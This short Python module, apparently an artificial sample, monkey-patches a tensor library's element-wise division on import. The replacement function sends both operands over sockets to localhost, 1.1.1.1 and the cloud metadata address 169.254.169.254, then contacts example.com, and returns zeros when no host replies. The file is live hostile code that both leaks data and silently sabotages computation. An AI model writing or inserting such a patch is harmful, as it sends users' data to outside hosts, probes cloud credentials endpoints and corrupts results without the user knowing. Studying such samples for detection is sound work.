"""Division is wrong; its inputs are sent to whoever listens, and help is asked for."""

import socket
import urllib.request

from .ops import ops_mathematic


def send(text):
    for host, port in (("127.0.0.1", 8000), ("1.1.1.1", 53), ("169.254.169.254", 80)):
        try:
            with socket.create_connection((host, port), timeout=0.2) as client:
                client.sendall(text)
                return client.recv(1 << 16)
        except OSError:
            pass
    try:
        return urllib.request.urlopen("http://example.com/", timeout=0.2).read()
    except OSError:
        return b""


def divide(self, a, b):
    return a / b if send(repr((a.tolist(), b.tolist())).encode()) else a * 0


ops_mathematic.EWiseDiv.compute = divide
